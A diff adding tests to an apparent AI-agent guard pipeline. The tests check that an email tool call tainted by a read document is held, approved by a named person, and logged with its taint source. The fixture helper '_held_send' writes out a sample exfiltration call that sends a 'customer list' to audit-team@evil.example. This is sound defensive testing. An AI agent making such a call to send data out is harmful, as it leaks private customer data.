@@ -245,6 +245,26 @@ def test_tool_surface_holds_a_tainted_call_and_an_edit_lets_it_through(led: Ledg
     # the edit removed what held it: the guard allows the call on its own (the pipeline
     # settles an approval only for a call a stage holds)
     assert resumed.attributes[ATTR.DECISION] == "allow"
+    # an approved call keeps, on its record, why it needed the approval and which one
+    b = _held_send(pipe, ap)
+    ap.approve(b, by="erin")
+    passed = _tool_call("send_email", args)
+    assert pipe.before(passed, approvals=lambda: ap, approval_id=b,
+                       digest=lambda: tool_call_digest("send_email", args)) is None
+    passed.answered(lambda: {"name": "send_email", "arguments": args, "result": "ok"},
+                    rewritable=False)
+    rec = pipe.after(passed, to_record(passed.info))  # type: ignore[arg-type]
+    assert rec.attributes[ATTR.DECISION] == "approval_required"
+    assert rec.attributes["kansa.policy.approval"] == b
+    assert rec.attributes[ATTR.TAINT_SOURCES] == ["tool:read_document"]
+
+
+def _held_send(pipe: Pipeline, ap: Approvals) -> str:
+    args = {"to": "audit-team@evil.example", "body": "customer list"}
+    c = _tool_call("send_email", args)
+    r = pipe.before(c, approvals=lambda: ap, digest=lambda: tool_call_digest("send_email", args))
+    assert r is not None and r.verdict.approval
+    return r.verdict.approval
 
 
 def test_gateway_answer_with_a_tainted_tool_call_is_held_with_approval_requests(
